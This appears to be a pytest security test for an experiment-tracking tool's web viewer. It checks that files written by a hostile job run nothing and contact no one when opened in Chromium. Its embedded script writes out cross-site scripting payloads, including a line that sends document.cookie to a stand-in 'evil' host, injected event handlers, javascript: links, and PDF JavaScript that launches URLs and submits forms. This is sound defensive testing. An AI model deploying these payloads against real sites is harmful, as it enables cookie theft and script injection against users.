"""What a hostile job leaves and logs, looked at in Chromium: nothing of it runs, and nothing is asked for elsewhere."""

from __future__ import annotations

import json
import socket
import subprocess
import threading
from collections.abc import Generator
from contextlib import contextmanager, suppress

import pytest

from .browsers import DRIVER, find_browser, find_packages
from .house import House

SCRIPT = r"""
import os, pathlib, sys
import drumbeat
from drumbeat.rank.media import png
evil, server = sys.argv[1], "/api/v1/jobs/hostile/cancel"
js = f"fetch('{evil}/s');fetch('{server}',{{method:'POST'}});alert(1);top.pwned=1"
js += f";new Image().src='{evil}/'+document.cookie"
markup = f'''<!doctype html><html manifest="{evil}/manifest"><head><base href="{evil}/">
<meta http-equiv="refresh" content="0;url={evil}/refresh"><META http-equiv=x-dns-prefetch-control content=on>
<link rel="preconnect" href="{evil}"><LINK rel=prefetch href="{evil}/p">
<link/rel="dns-prefetch preload" as=image href="{evil}">
<link rel="stylesheet" href="{evil}/c.css"><style>@import url({evil}/i.css); body {{ background: url({evil}/b.png) }}
@font-face {{ font-family: f; src: url({evil}/f) }} p {{ font-family: f; color: rgb(1, 2, 3) }}</style>
<script>{js}</script><script src="{evil}/x.js"></script></head>
<body onload="{js}"><p>harmless text</p><img src="{evil}/i.png" onerror="{js}">
<svg onload="{js}"><image href="{evil}/s"/></svg>
<iframe src="{evil}/f"></iframe><iframe srcdoc="<script>{js}</script>"></iframe>
<object data="{evil}/o"></object>
<embed src="{evil}/e"><video src="{evil}/v" poster="{evil}/w"></video>
<form id=f action="{evil}/form"><input name=a></form>
<button form=f>send</button><a href="{evil}/a" ping="{evil}/ping">go</a><a target=_top href="{evil}/t">top</a>
<a target=_blank href="{evil}/n">new</a><a href="javascript:{js}">js</a></body></html>'''
folder = pathlib.Path("outputs")
folder.mkdir(exist_ok=True)
(folder / "page.html").write_text(markup)
(folder / "wide.html").write_text(markup, encoding="utf-16")
links = f"![x]({evil}/md.png) [x](javascript:{js}) <{evil}/auto>"
(folder / "notes.md").write_text(f"# harmless text\n\n{markup}\n\n{links}")
(folder / "picture.svg").write_text(
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}" width="9" height="9"><script>{js}</script>'
    f'<image href="{evil}/svg.png" width="9" height="9"/><foreignObject><iframe src="{evil}/fo"/></foreignObject></svg>'
)
(folder / "rows.csv").write_text('name\n"' + markup.replace('"', '""') + '"\n')
(folder / "document.pdf").write_bytes(b"%PDF-1.4 " + markup.encode())
objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Annots [6 0 R] /AA << /O 5 0 R >> >>",
    "<< /Length 14 >>\nstream\n9 9 99 99 re f\nendstream",
    f"<< /S /JavaScript /JS (app.launchURL('{evil}/launch', true); app.alert(1); this.submitForm('{evil}/form')) >>",
    f"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI ({evil}/uri) >> >>",
]
body = "\n".join(f"{n} 0 obj\n{one}\nendobj" for n, one in enumerate(objects, 1))
(folder / "drawn.pdf").write_text(f"%PDF-1.7\n{body}\ntrailer\n<< /Root 1 0 R /Size 7 >>\n%%EOF\n")
drumbeat.log(
    step=1, said=drumbeat.Text(markup), rows=drumbeat.Table([markup], [[markup]]),
    samples=[drumbeat.Image(png(bytes(12), 2, 2, 3), caption=markup)],
)
"""
FILES = ["page.html", "wide.html", "notes.md", "picture.svg", "rows.csv", "document.pdf", "drawn.pdf"]


@contextmanager
def a_stranger() -> Generator[tuple[str, list[str]]]:
    """Listens where hostile files lead; yields its address, and what came, connections without a request too."""
    came: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def listen() -> None:
            while True:
                try:
                    line, _ = listener.accept()
                except OSError:
                    return
                with line:
                    line.settimeout(1)
                    came.append("a connection")
                    with suppress(OSError):
                        came[-1] = line.recv(200).decode(errors="replace")

        threading.Thread(target=listen, daemon=True).start()
        yield f"http://127.0.0.1:{listener.getsockname()[1]}", came
        listener.shutdown(socket.SHUT_RDWR)


@pytest.mark.feature("M16", "X1")
def test_files_of_a_hostile_job_run_nothing_and_reach_nobody(own_house: House):
    chromium, packages = find_browser(), find_packages()
    with a_stranger() as (evil, came):
        own_house.script(SCRIPT)
        file = own_house.job_file(command=f"python t.py {evil}", code=".", drumbeat="{environment: current}")
        done = own_house.run("run", file, "--name", "hostile")
        assert done.returncode == 0, done.stdout + done.stderr
        errand = {
            "playwright": str(packages / "playwright-core" / "index.mjs"), "chromium": chromium, "job": "hostile",
            "link": own_house.run("ui", "--print").stdout.strip(), "files": [f"outputs/default/{one}" for one in FILES],
        }  # fmt: skip
        driver = ["node", str(DRIVER.with_name("hostile-files.mjs"))]
        done = subprocess.run(
            driver, input=json.dumps(errand), capture_output=True, text=True, timeout=200, check=False
        )
        assert done.returncode == 0, done.stderr[-2000:]
        seen = json.loads(done.stdout)
        assert came == []
    assert (seen["foreign"], seen["dialogs"], seen["said"]) == ([], [], "")
    assert set(seen["cookies"]) == {"SecurityError"}
    # Shown it was: else nothing would have run in vain.
    shown = {path.rpartition("/")[2]: text for path, text in seen["shown"].items()}
    assert "harmless text" in shown["page.html"]
    assert "harmless text" in shown["notes.md"]
    assert "<!doctype html>" in shown["rows.csv"]
    assert "can't be read as PDF: download it" in shown["document.pdf"]
    assert "1 page;" in shown["drawn.pdf"]
